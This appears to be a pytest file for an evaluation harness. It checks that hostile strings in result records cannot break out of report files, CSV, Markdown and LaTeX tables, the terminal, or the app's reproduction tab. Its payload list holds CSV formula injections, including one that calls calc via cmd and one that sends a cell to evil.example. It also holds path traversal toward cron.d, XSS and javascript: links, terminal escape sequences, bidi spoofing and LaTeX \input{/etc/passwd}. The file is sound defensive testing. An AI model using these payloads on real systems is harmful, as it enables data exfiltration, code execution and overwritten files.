"""Strings from records are untrusted at every output (issue 36): a hostile record whose every string
field carries a payload, through every output of ``harness report`` (files, CSV, Markdown, LaTeX,
terminal), and the app's Reproduction tab on a corrupt or foreign CSV."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from harness import untrusted
from harness.cli.main import main
from tests.record_factory import make_record

# one payload per class of attack; every string field of the hostile records carries it
PAYLOADS = {
    "traversal": "../../README",
    "absolute": "/tmp/../../etc/cron.d/x",
    "dotdot": "..",
    "spaces": " spaced  name ",
    "long": "a" * 400,
    "nul": "glue\x00.md",
    "formula": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-cr": "\r=1+1",
    "html": '<img src=x onerror="alert(1)"><script>alert(2)</script>',
    "image": "![pixel](https://evil.example/track.png)",
    "link": "[docs](javascript:alert(1))",
    "markdown": "`code` *em* _em_ ~~s~~ a|b # h",
    "ansi": "\x1b[2J\x1b[31mred\x1b]0;pwned\x07\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\\x9b31m\x07",
    "bidi": "safe\u202eexe.txt\u2066x\u2069",
    "latex": r"\input{/etc/passwd} $x^2_y$ & % # ~ { } \end{tabular}",
    "linebreak": "task\n\\\\ \\end{table}\r\n| injected | row |\n",
    "c1": "a\x85b\x90c\x9dd\x7f",
}
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
SAFE_NAME = re.compile(r"[A-Za-z0-9._-]+")


def hostile_records(payload: str) -> list[dict]:
    """Two configurations of a suite, task, model and preset named by the payload: the baseline
    (adapter ``lora``) and an adapter named by the payload, three seeds each, an option and a metric
    named by it, a note and a failed run whose error message carries it."""
    records = []
    for adapter, base in (("lora", 0.6), (payload, 0.7)):
        for i, seed in enumerate((1, 2, 3)):
            record = make_record(suite=payload, task=payload, adapter=adapter, model=payload, preset=payload,
                                 seed=seed, score=base + i / 100, primary=payload,
                                 adapter_options={"rank": 8, "mode": payload, payload: payload})
            record["metrics"]["best"][f"{payload}_sub"] = 0.5
            record["metrics"]["unit"] = payload
            record["notes"] = payload
            records.append(record)
    failed = make_record(suite=payload, task=payload, adapter=payload, model=payload, preset=payload, seed=4,
                         status="failed", adapter_options={"rank": 8, "mode": payload, payload: payload})
    failed["error"]["message"] = payload
    records.append(failed)
    return records


def write_raw(root: Path, records: list[dict]) -> None:
    """Records as files at names of our own (the store's own writer would build paths from them)."""
    folder = root / "dropped"
    folder.mkdir(parents=True)
    for i, record in enumerate(records):
        (folder / f"record-{i}.json").write_text(json.dumps(record), encoding="utf-8")


def snapshot(root: Path, skip: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in root.rglob("*") if p.is_file() and skip not in p.parents}


def unescaped(text: str) -> str:
    """Markdown without its backslash escapes and entities: what could still act as syntax."""
    return re.sub(r"\\.", "", text).replace("&lt;", "").replace("&gt;", "").replace("&amp;", "")


def check_csv(path: Path) -> None:
    for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
        for cell in row:
            assert not CONTROL.search(cell.replace("\n", "")), (path.name, cell)
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell), (path.name, cell)


def check_markdown(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    assert not CONTROL.search(text.replace("\n", "")), path.name
    bare = unescaped(text)
    for syntax in ("<", ">", "![", "](", "`", "\x1b"):
        assert syntax not in bare, (path.name, syntax)
    for block in text.split("\n\n"):  # every table keeps its shape: as many cells per line as the header
        lines = [line for line in block.splitlines() if line.startswith("|")]
        if lines:
            widths = {len(re.split(r"(?<!\\)\|", line)) for line in lines}
            assert len(widths) == 1, (path.name, block[:500])


def check_latex(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    assert not CONTROL.search(text.replace("\n", "")), path.name
    for forbidden in (r"\input", r"\end{table}" + "\n\\\\", "$x^2_y$"):
        assert forbidden not in text
    in_body = False
    for line in text.splitlines():  # a line break in a value never splits a table row
        if line.startswith(r"\midrule"):
            in_body = True
        elif line.startswith(r"\bottomrule"):
            in_body = False
        elif in_body and line.strip():
            assert line.rstrip().endswith("\\\\"), (path.name, line)
    if shutil.which("pdflatex"):
        compile_latex(path)


def compile_latex(path: Path) -> None:
    folder = path.parent / f"tex-{path.stem}"
    folder.mkdir()
    (folder / "doc.tex").write_text(
        "\\documentclass{article}\n"
        "\\usepackage{booktabs,amssymb,array}\n\\begin{document}\n" + path.read_text(encoding="utf-8")
        + "\n\\end{document}\n", encoding="utf-8")
    done = subprocess.run(["pdflatex", "-interaction=nonstopmode", "-halt-on-error", "-no-shell-escape", "doc.tex"],
                          cwd=folder, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stdout[-3000:]


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_a_hostile_record_escapes_no_output(name, tmp_path, capsys):
    payload = PAYLOADS[name]
    project = tmp_path / "project"
    (project / "results").mkdir(parents=True)
    (project / "README.md").write_text("the project's README\n")
    (project / "results" / "keep.txt").write_text("a sentinel beside --out\n")
    write_raw(project / "results" / "store", hostile_records(payload))
    out = project / "results" / "tables"
    before = snapshot(project, out)
    for baseline in ("lora", payload):
        code = main(["report", "--results-dir", str(project / "results" / "store"), "--out", str(out),
                     "--baseline", baseline])
        assert code == 0
        captured = capsys.readouterr()
        # terminal: no escape sequence or control character, whatever the records hold
        for stream in (captured.out, captured.err):
            assert not CONTROL.search(stream.replace("\n", "")), stream[-2000:]
        assert "Traceback" not in captured.err
    # files: nothing outside --out changed, every name inside it plain
    assert snapshot(project, out) == before
    names = sorted(p.name for p in out.iterdir())
    assert names and all(SAFE_NAME.fullmatch(n) and not n.startswith(".") for n in names), names
    assert all(p.parent == out for p in out.rglob("*") if p.is_file())
    for path in out.iterdir():
        {".csv": check_csv, ".md": check_markdown, ".tex": check_latex,
         ".jsonl": lambda p: [json.loads(line) for line in p.read_text().splitlines() if line]}[path.suffix](path)


def test_report_into_a_folder_whose_parent_holds_a_readme_changes_nothing_outside_it(tmp_path, capsys):
    """The issue's case: one record with ``suite`` ``../../README`` made ``report --out results/tables``
    replace the project's README.md."""
    project = tmp_path / "project"
    (project / "results").mkdir(parents=True)
    (project / "README.md").write_text("sentinel\n")
    records = [make_record(suite="../../README", seed=s, score=0.6 + s / 100) for s in (1, 2, 3)]
    write_raw(project / "results" / "store", records)
    before = snapshot(tmp_path, project / "results" / "tables")
    assert main(["report", "--results-dir", str(project / "results" / "store"),
                 "--out", str(project / "results" / "tables")]) == 0
    assert snapshot(tmp_path, project / "results" / "tables") == before
    assert (project / "README.md").read_text() == "sentinel\n"
    assert {p.name for p in (project / "results" / "tables").iterdir()} >= {"leaderboard.md", "leaderboard.csv"}


def test_two_suites_never_share_a_file_and_a_suite_cannot_replace_another_suites_table():
    from harness.aggregate import suite_file_names

    names = suite_file_names(["glue", "glue-limited", "glue-vs-lora", "leaderboard", "reproduce-sera-t1", "a/b", "a_b",
                              "GLUE", "Leaderboard"], "lora")
    every = [n for files in names.values() for n in files.values()]
    assert len(every) == len({n.lower() for n in every}) and "leaderboard.md" not in every  # case-blind too
    assert names["glue"]["csv"] == "glue.csv" and names["glue-limited"]["csv"] != "glue-limited.csv"
    assert "reproduce-sera-t1.csv" not in every  # the reproduction table of that name


def test_write_files_atomically_refuses_a_name_that_leaves_the_folder(tmp_path):
    from harness.cli.report import write_files_atomically

    for name in ("../x.csv", "/tmp/x.csv", "a/b.csv", ".hidden", ""):
        with pytest.raises(untrusted.UnsafePathError):
            write_files_atomically(tmp_path / "out", {"ok.csv": "a\n", name: "b\n"})
        assert not (tmp_path / "out" / "ok.csv").exists()  # checked before anything is written
    (tmp_path / "out").mkdir(exist_ok=True)
    (tmp_path / "out" / "link.csv").symlink_to(tmp_path / "outside.csv")
    with pytest.raises(untrusted.UnsafePathError):
        write_files_atomically(tmp_path / "out", {"link.csv": "b\n"})
    assert not (tmp_path / "outside.csv").exists()


def test_the_helpers_one_by_one():
    assert untrusted.safe_filename("glue") == "glue" and untrusted.safe_filename("coco-retrieval") == "coco-retrieval"
    assert untrusted.safe_filename("../../README") != untrusted.safe_filename("../..README")
    for hostile in ("..", ".", "", "a/b", "\x00", "-rf", "a" * 300):
        assert SAFE_NAME.fullmatch(untrusted.safe_filename(hostile)) and untrusted.safe_filename(hostile) not in (".", "..")
    assert untrusted.csv_cell("=1+1") == "'=1+1" and untrusted.csv_cell("@x") == "'@x"
    assert untrusted.csv_cell("-0.5") == "-0.5" and untrusted.csv_cell("+1.20") == "+1.20"
    assert untrusted.csv_cell(-0.5) == -0.5 and untrusted.csv_cell(None) is None
    assert untrusted.csv_cell("\t=1") == "' =1"
    assert untrusted.markdown_text("<b>|![x](y)") == r"&lt;b&gt;\|\!\[x\](y)"
    assert untrusted.markdown_paragraph("# not a heading") == r"\# not a heading"
    assert untrusted.latex_text("a_b & 100% {x} ~^\\$#\n") == (r"a\_b \& 100\% \{x\} \textasciitilde{}"
                                                              r"\textasciicircum{}\textbackslash{}\$\# ")
    assert untrusted.terminal_text("\x1b[31mred\x1b[0m\nok\x07") == "red\nok"
    assert untrusted.terminal_text("a\nb", keep_newlines=False) == "a b"


def test_the_reproduction_tab_survives_a_corrupt_or_foreign_csv(tmp_path):
    from app.reproduction import load_reproduction
    from harness.papers.tables import TABLES

    good, corrupt, foreign, hostile = TABLES[0].name, TABLES[1].name, TABLES[2].name, TABLES[3].name
    header = ("table,preset,row,adapter,model,paper_model,task,metric,reported,scale,reproduced_mean,ci_low,ci_high,"
              "n,difference,reported_in_ci,note\n")
    (tmp_path / f"reproduce-{good}.csv").write_text(header + f"{good},cpu,LoRA,lora,m,p,rte,accuracy,70,1,69,68,70,3,-1,"
                                                    "True,\n")
    (tmp_path / f"reproduce-{corrupt}.csv").write_bytes(b"\x00\xff\xfe garbage \x00\n\"unterminated")
    (tmp_path / f"reproduce-{foreign}.csv").write_text("name,value\nx,1\n")
    (tmp_path / f"reproduce-{hostile}.csv").write_text(header + f"{hostile},cpu,\x1b[31mx,lora,m,p,rte,acc,abc,1,,,,3,,"
                                                       "True,\n")
    warnings: list[str] = []
    frames = load_reproduction(tmp_path, warnings)
    assert set(frames) == {good, hostile}
    assert len(warnings) == 2 and all("not a reproduction table" in w for w in warnings)
    assert frames[hostile]["row"].iloc[0] == "x" and frames[hostile]["reported"].isna().all()
    assert frames[good]["reported"].iloc[0] == 70


def test_error_and_progress_lines_carry_no_escape_sequence(tmp_path, capsys):
    from harness.grid.progress import err

    hostile = tmp_path / "store\x1b]0;pwned\x07\x1b[2J"
    assert main(["report", "--results-dir", str(hostile)]) == 2  # does not exist: one error line
    err("[1/2] lora \x1b[31mrte\x1b[0m \x9b2J done")
    text = capsys.readouterr().err
    assert "error: --results-dir" in text and "[1/2] lora rte 2J done" not in text  # 0x9b's CSI is removed whole
    assert not CONTROL.search(text.replace("\n", "")), repr(text)
    assert "[1/2] lora rte  done" in text
